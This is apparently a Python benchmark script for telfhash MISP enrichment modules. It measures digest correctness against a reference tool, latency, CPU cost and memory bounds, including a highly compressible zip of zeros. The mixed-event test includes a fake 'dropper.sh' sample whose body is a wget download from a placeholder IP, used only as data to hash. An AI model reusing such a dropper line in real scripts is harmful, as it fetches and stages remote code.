"""The telfhash MISP modules as MISP uses them, through the real misp-modules server, beside the
reference tool, in one run.

* Start: ``telfhash-misp-modules --background`` (misp-modules' own server, only our modules):
  seconds until the ready line, and the server's RSS at rest.
* Digests: malware-sample requests shaped as MISP builds them (``EventsController::
  __queryEnrichment``; the sample zipped by Info-ZIP ``zip -j -P infected`` as
  ``AttachmentTool::encrypt`` does) for corpus files of every architecture, sent 20 at a time.
  Every digest is compared with the reference tool's (telfhash 0.9.8, run on the same files in
  this run) and with the corpus manifest.  Latency: median / p95 / max per request under 20
  concurrent requests (samples <= 5 MB), beside the reference hashing the file from disk.
* 16 MiB incompressible malware-sample: the server's CPU seconds for the request, beside
  ``unzip -p -P`` + the reference on the same file, and Python's ``zipfile`` (the ZipCrypto
  decrypter the module used before) measured on a 2 MiB slice.
* Memory: the server's peak RSS (``VmHWM``, reset through ``/proc/PID/clear_refs``) under 20
  concurrent requests that each inflate to the cap, per request, against ``cap + 64 MiB``.
* Bulk enrichment (``Event::enrichment``: ``attribute_uuid`` requests, one per attribute) of an
  event mixing ELF, non-ELF, ``tnull`` and ``-`` samples: every reply must carry ``results``.

    python benchmarks/bench_misp.py [--files 96] [--quick] [--reference-python PATH]
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import json
import os
import resource
import shutil
import socket
import statistics
import subprocess
import sys
import tempfile
import time
import urllib.request
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO / "tests"))

import corpus

REF_SCRIPT = r"""
import json, sys, time
import telfhash
paths = json.load(open(sys.argv[1]))
times, values = [], []
for p in paths:
    t = time.perf_counter()
    values.append(telfhash.telfhash(p)[0]["telfhash"])
    times.append(time.perf_counter() - t)
json.dump({"times": times, "values": values}, open(sys.argv[2], "w"))
"""
MIB = 1 << 20


def find_reference(arg: str | None) -> str | None:
    for cand in (arg, os.environ.get("TELFHASH_REFERENCE_PYTHON"), "/work/refvenv/bin/python"):
        if cand and Path(cand).exists():
            return cand
    return None


def run_reference(python: str, paths: list[str]) -> tuple[list[float], list[str]]:
    with tempfile.TemporaryDirectory() as tmp:
        src, dst, script = Path(tmp, "in.json"), Path(tmp, "out.json"), Path(tmp, "ref.py")
        src.write_text(json.dumps(paths))
        script.write_text(REF_SCRIPT)
        subprocess.run([python, str(script), str(src), str(dst)], check=True)
        data = json.loads(dst.read_text())
    return data["times"], data["values"]


def zip_p(data: bytes, name: str, tmp: Path) -> bytes:
    """The malware-sample ZIP exactly as MISP's AttachmentTool::encrypt makes it."""
    md5 = hashlib.md5(data).hexdigest()
    (tmp / md5).write_bytes(data)
    (tmp / f"{md5}.filename.txt").write_text(name)
    out = tmp / f"{md5}.zip"
    subprocess.run(
        ["zip", "-q", "-j", "-P", "infected", str(out), str(tmp / md5), str(tmp / f"{md5}.filename.txt")], check=True
    )
    blob = out.read_bytes()
    for p in (out, tmp / md5, tmp / f"{md5}.filename.txt"):
        p.unlink()
    return blob


def attribute(kind: str, value: str, data: bytes | None, object_id: str = "0") -> dict:
    a = {
        "id": "1",
        "event_id": "42",
        "object_id": object_id,
        "object_relation": None,
        "category": "Payload delivery",
        "type": kind,
        "value": value,
        "to_ids": True,
        "uuid": str(uuid.uuid4()),
        "timestamp": "1764547200",
        "distribution": "5",
        "sharing_group_id": "0",
        "comment": "",
        "deleted": False,
        "disable_correlation": False,
    }
    if data is not None:
        a["data"] = base64.b64encode(data).decode()
    return a


def malware_sample_request(data: bytes, name: str, tmp: Path, config: dict | None = None) -> bytes:
    attr = attribute("malware-sample", f"{name}|{hashlib.md5(data).hexdigest()}", zip_p(data, name, tmp))
    cfg = {"index_path": None, "max_distance": None, "max_results": None, "max_sample_mb": None}
    cfg.update(config or {})
    return json.dumps({"module": "telfhash_expansion", "attribute": attr, "event_id": "42", "config": cfg}).encode()


def post(base: str, body: bytes, timeout: float = 120) -> dict:
    req = urllib.request.Request(base + "/query", data=body, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=timeout) as r:
        return json.loads(r.read())


def telf_of(res: dict) -> str | None:
    try:
        obj = res["results"]["Object"][0]
        return next(a["value"] for a in obj["Attribute"] if a["type"] == "telfhash")
    except (KeyError, IndexError, StopIteration, TypeError):
        return None


def pct(times: list[float], q: float) -> float:
    t = sorted(times)
    return t[min(len(t) - 1, round(q * (len(t) - 1)))]


def summary(times: list[float]) -> str:
    return (
        f"median {statistics.median(times) * 1000:7.1f} ms  p95 {pct(times, 0.95) * 1000:7.1f} ms  "
        f"max {max(times) * 1000:7.1f} ms"
    )


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def status(pid: int, key: str) -> int:
    """A VmRSS/VmHWM figure of /proc/PID/status, in bytes."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(key + ":"):
            return int(line.split()[1]) * 1024
    raise KeyError(key)


def reset_peak(pid: int) -> None:
    Path(f"/proc/{pid}/clear_refs").write_text("5")  # VmHWM := VmRSS


def cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def pick(n: int) -> list[dict]:
    """Hashed corpus files <= 5 MB, round-robin over every architecture, in a fixed pseudo-random
    order within each (the hash of the path), whatever their size or route."""
    files = [f for f in corpus.files() if f["reference"]["telfhash"].startswith("t1") and f["size"] <= 5_000_000]
    by_arch: dict[str, list[dict]] = {}
    for f in sorted(files, key=lambda f: hashlib.sha256(f["path"].encode()).hexdigest()):
        by_arch.setdefault(f["arch"], []).append(f)
    out: list[dict] = []
    while len(out) < n and any(by_arch.values()):
        for arch in sorted(by_arch):
            if by_arch[arch] and len(out) < n:
                out.append(by_arch[arch].pop(0))
    return out


def start_server(tmp: Path, env: dict) -> tuple[str, int, float, Path]:
    port = free_port()
    pid_file, log = tmp / "pid", tmp / "server.log"
    t = time.perf_counter()
    out = subprocess.run(
        [
            sys.executable,
            "-m",
            "telfhash_plugins.misp.cli",
            "-p",
            str(port),
            "--root",
            str(tmp / "root"),
            "--background",
            "--pid-file",
            str(pid_file),
            "--log",
            str(log),
        ],
        capture_output=True,
        text=True,
        env=env,
        check=False,
    )
    ready = time.perf_counter() - t
    if out.returncode != 0:
        sys.exit(f"launcher failed ({out.returncode}): {out.stderr}")
    print(out.stdout.strip())
    return f"http://127.0.0.1:{port}", int(pid_file.read_text()), ready, log


def concurrent(base: str, bodies: list[bytes], workers: int = 20) -> tuple[list[float], list[dict]]:
    def one(body: bytes):
        t = time.perf_counter()
        res = post(base, body)
        return time.perf_counter() - t, res

    with ThreadPoolExecutor(workers) as pool:
        got = list(pool.map(one, bodies))
    return [g[0] for g in got], [g[1] for g in got]


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--files", type=int, default=96, help="corpus files (default 96, at least 80)")
    ap.add_argument("--quick", action="store_true", help="smaller memory scenario (cap 16 MiB, 10 bomb requests)")
    ap.add_argument("--reference-python", help="an interpreter where `import telfhash` works (telfhash 0.9.8)")
    args = ap.parse_args()
    if not shutil.which("zip"):
        sys.exit("Info-ZIP 'zip' is needed to build the samples as MISP does (apt-get install zip)")
    if not corpus.available():
        sys.exit(corpus.skip_reason())
    ref = find_reference(args.reference_python)
    env = dict(os.environ)
    tmp = Path(tempfile.mkdtemp(prefix="bench-misp-"))
    base, pid, ready, _log = start_server(tmp, env)
    try:
        rest = status(pid, "VmRSS")
        print(f"machine: {os.cpu_count()} cores, load average {os.getloadavg()[0]:.1f} at start (shared machine)")
        print(
            f"start: ready line after {ready:.2f} s; server RSS at rest {rest / MIB:.0f} MiB   "
            "(targets: <= 3 s, <= 150 MiB)"
        )

        # ------------------------------------------------------------------ digests and latency
        entries = pick(max(80, args.files))
        archs = sorted({e["arch"] for e in entries})
        paths = [e["abspath"] for e in entries]
        blobs = [Path(p).read_bytes() for p in paths]
        bodies = [malware_sample_request(b, os.path.basename(p), tmp) for p, b in zip(paths, blobs)]
        print(
            f"samples: {len(entries)} corpus files <= 5 MB, {len(archs)} architectures ({', '.join(archs)}), "
            f"{sum(map(len, blobs)) / 1e6:.1f} MB, largest {max(map(len, blobs)) / 1e6:.2f} MB; ZIPs by zip -j -P"
        )
        ref_times = ref_values = None
        if ref:
            ref_times, ref_values = run_reference(ref, paths)
        else:
            print("reference: not found (--reference-python or TELFHASH_REFERENCE_PYTHON); manifest values only")
        post(base, bodies[0])  # first request: loads the compiled ZipCrypto kernel
        after_first = status(pid, "VmRSS")
        c0 = cpu_seconds(pid)
        times, results = concurrent(base, bodies)
        server_cpu = (cpu_seconds(pid) - c0) / len(bodies)
        got = [telf_of(r) for r in results]
        want_manifest = [e["reference"]["telfhash"][2:] for e in entries]
        wrong_manifest = sum(g != w for g, w in zip(got, want_manifest))
        line = f"digests: {len(got) - wrong_manifest}/{len(got)} equal to the manifest"
        if ref_values is not None:
            wrong_ref = sum(g != v.removeprefix("t1") for g, v in zip(got, ref_values))
            line += f", {len(got) - wrong_ref}/{len(got)} equal to the reference run now"
        print(line)
        print(
            f"{'misp-modules, malware-sample, 20 concurrent':<46}{summary(times)}   (target p95 <= 500 ms; "
            f"server CPU {server_cpu * 1000:.1f} ms per request; load average now {os.getloadavg()[0]:.1f})"
        )
        if ref_times:
            print(
                f"{'reference telfhash(path), file on disk, serial':<46}{summary(ref_times)}   "
                f"(its whole run: {sum(ref_times):.2f} s for these files, serial)"
            )
        wall = None
        t = time.perf_counter()
        concurrent(base, bodies)
        wall = time.perf_counter() - t
        print(
            f"throughput: {len(bodies) / wall:.1f} samples/s through the server (20 concurrent, 2 cores)"
            + (f"; reference {len(ref_times) / sum(ref_times):.1f} files/s from disk, one process" if ref_times else "")
        )
        print(f"server RSS after the first ZipCrypto sample (numba kernel loaded): {after_first / MIB:.0f} MiB")
        largest = sorted(
            (f for f in corpus.files() if f["reference"]["telfhash"].startswith("t1") and f["size"] <= 5_000_000),
            key=lambda f: -f["size"],
        )[:10]
        big_bodies = [malware_sample_request(Path(f["abspath"]).read_bytes(), "x", tmp) for f in largest]
        big_times, big_ok = [], 0
        for f, body in zip(largest, big_bodies):  # one at a time: the worst case MISP meets (10 s budget)
            t0 = time.perf_counter()
            res = post(base, body)
            big_times.append(time.perf_counter() - t0)
            big_ok += telf_of(res) == f["reference"]["telfhash"][2:]
        line = f"{'10 largest files (static, fallback), serial':<46}{summary(big_times)}   ({big_ok}/10 digests right"
        if ref:
            rt, _ = run_reference(ref, [f["abspath"] for f in largest])
            line += f"; reference {summary(rt)}"
        print(line + ")")

        # ------------------------------------------------------------------ 16 MiB incompressible sample
        small = next(e for e in entries if e["size"] < 100_000)
        big = Path(small["abspath"]).read_bytes()
        big += os.urandom(16 * MIB - len(big))  # trailing bytes: same telfhash
        big_path = tmp / "big.elf"
        big_path.write_bytes(big)
        body = malware_sample_request(big, "big.elf", tmp)
        zip_path = tmp / "big.zip"
        zip_path.write_bytes(base64.b64decode(json.loads(body)["attribute"]["data"]))
        cpus, walls = [], []
        for _ in range(3):
            c0, t0 = cpu_seconds(pid), time.perf_counter()
            res = post(base, body)
            walls.append(time.perf_counter() - t0)
            cpus.append(cpu_seconds(pid) - c0)
        ok = telf_of(res) == small["reference"]["telfhash"][2:]
        line = (
            f"16 MiB incompressible malware-sample: server CPU {min(cpus):.2f} s (of 3: "
            f"{', '.join(f'{c:.2f}' for c in cpus)}), wall {min(walls):.2f} s, "
            f"digest {'= reference' if ok else 'WRONG'}"
            "   (target <= 1 s CPU)"
        )
        print(line)
        md5 = hashlib.md5(big).hexdigest()
        unzip_cpu = []
        for _ in range(3):
            r0 = resource.getrusage(resource.RUSAGE_CHILDREN)
            subprocess.run(["unzip", "-p", "-P", "infected", str(zip_path), md5], stdout=subprocess.DEVNULL, check=True)
            r1 = resource.getrusage(resource.RUSAGE_CHILDREN)
            unzip_cpu.append(r1.ru_utime - r0.ru_utime + r1.ru_stime - r0.ru_stime)
        ref_line = f"  beside it: unzip -p -P (C) {min(unzip_cpu):.2f} s CPU"
        if ref:
            rt, rv = run_reference(ref, [str(big_path)])
            same = "equal" if rv[0][2:] == telf_of(res) else "DIFFERENT"
            ref_line += f"; reference telfhash on the unzipped file {rt[0]:.2f} s (digest {same})"
            ref_line += (
                f"; unzip + reference {min(unzip_cpu) + rt[0]:.2f} s vs ours {min(cpus):.2f} s CPU "
                "(ours includes HTTP, JSON and base64 of a 21 MiB request)"
            )
        print(ref_line)
        import io
        import zipfile

        slice_zip = zip_p(big[: 2 * MIB], "slice", tmp)
        t0 = time.process_time()
        with zipfile.ZipFile(io.BytesIO(slice_zip)) as zf:
            zf.read(hashlib.md5(big[: 2 * MIB]).hexdigest(), pwd=b"infected")
        py_rate = 2 / (time.process_time() - t0)
        print(
            f"  Python zipfile's ZipCrypto (the module's former decrypter): {py_rate:.1f} MiB/s of CPU, "
            f"i.e. {16 / py_rate:.0f} s for this sample; ours x{(16 / py_rate) / min(cpus):.0f}"
        )

        # ------------------------------------------------------------------ memory under 20 concurrent requests
        scenarios = []
        cap = 16 if args.quick else 32
        zeros = b"\0" * ((cap - 1) * MIB)
        bomb = malware_sample_request(zeros, "zeros", tmp, {"max_sample_mb": str(cap)})
        scenarios.append((f"{len(bomb) // 1024} KB ZipCrypto ZIP of {cap - 1} MiB zeros, cap {cap} MiB", bomb, cap))
        scenarios.append(
            (
                "16 MiB incompressible ELF, cap 16 MiB",
                malware_sample_request(big, "big.elf", tmp, {"max_sample_mb": "16"}),
                16,
            )
        )
        n = 10 if args.quick else 20
        for label, req, cap_mb in scenarios:
            base_rss = status(pid, "VmRSS")
            reset_peak(pid)
            _, res_list = concurrent(base, [req] * n)
            peak = status(pid, "VmHWM")
            answered = sum("results" in r for r in res_list)
            per = (peak - base_rss) / n
            print(
                f"memory, {n} concurrent: {label}: peak {peak / MIB:.0f} MiB (from {base_rss / MIB:.0f}), "
                f"{per / MIB:.0f} MiB per request (bound {cap_mb + 64} MiB); {answered}/{n} answered"
            )
        print(f"server RSS after all of it: {status(pid, 'VmRSS') / MIB:.0f} MiB")
        fresh = tmp / "fresh"
        fresh.mkdir()
        base2, pid2, _, _ = start_server(fresh, env)
        try:
            post(base2, bodies[0])  # the kernel loaded
            for label, req, cap_mb in scenarios:
                before = status(pid2, "VmRSS")
                reset_peak(pid2)
                post(base2, req)
                one = status(pid2, "VmHWM") - before
                # the same body with an attribute type the module refuses at once: misp-modules' own share
                same = json.loads(req)
                same["attribute"]["type"] = "ip-dst"
                same_body = json.dumps(same).encode()
                before2 = status(pid2, "VmRSS")
                reset_peak(pid2)
                post(base2, same_body)
                host = status(pid2, "VmHWM") - before2
                print(
                    f"memory, one request alone (fresh server, {before / MIB:.0f} MiB): {label}: "
                    f"peak +{one / MIB:.0f} MiB "
                    f"(bound {cap_mb + 64} MiB); misp-modules alone reading this {len(req) / MIB:.0f} MiB request "
                    f"and answering it at once: +{host / MIB:.0f} MiB"
                )
        finally:
            os.kill(pid2, 15)

        # ------------------------------------------------------------------ bulk enrichment of a mixed event
        files = corpus.files()
        mixed = [e for e in files if e["reference"]["telfhash"].startswith("t1")][:: max(1, len(files) // 30)][:25]
        mixed += [e for e in files if e["reference"]["telfhash"] == "tnull"][:5]
        mixed += [e for e in files if e["reference"]["telfhash"] == "-"][:5]
        event = [
            (e["reference"]["telfhash"], Path(e["abspath"]).read_bytes(), os.path.basename(e["path"])) for e in mixed
        ]
        event += [
            ("-", b"%PDF-1.7\n" + os.urandom(20_000), "report.pdf"),
            ("-", b"MZ\x90\0" + os.urandom(50_000), "a.exe"),
            ("-", b"#!/bin/sh\nwget http://192.0.2.1/x\n", "dropper.sh"),
        ]
        reqs = []
        for ref_value, data, name in event:
            attr = attribute("malware-sample", f"{name}|{hashlib.md5(data).hexdigest()}", zip_p(data, name, tmp))
            reqs.append(
                (
                    ref_value,
                    json.dumps(
                        {
                            "module": "telfhash_expansion",
                            "event_id": "42",
                            "attribute_uuid": attr["uuid"],
                            "config": {"index_path": None},
                            "attribute": attr,
                        }
                    ).encode(),
                )
            )
        t0 = time.perf_counter()
        added = empty = errors = wrong = 0
        for ref_value, req in reqs:  # Event::enrichment queries one attribute after another
            res = post(base, req)
            if "results" not in res:
                errors += 1  # MISP would stop the enrichment here
                continue
            got_t = telf_of(res)
            if ref_value.startswith("t1"):
                added += 1
                wrong += got_t != ref_value[2:]
            else:
                empty += res["results"] == {}
        print(
            f"bulk enrichment of a mixed event: {len(reqs)} attributes in {time.perf_counter() - t0:.2f} s: "
            f"{added} telfhashes added ({wrong} wrong), {empty} empty results (tnull, -, PDF, PE, script), "
            f"{errors} replies without results -> {'completes' if not errors else 'STOPS'}"
        )
    finally:
        try:
            os.kill(pid, 15)
            for _ in range(100):
                if not Path(f"/proc/{pid}").exists():
                    break
                time.sleep(0.1)
        except ProcessLookupError:
            pass
        shutil.rmtree(tmp, ignore_errors=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
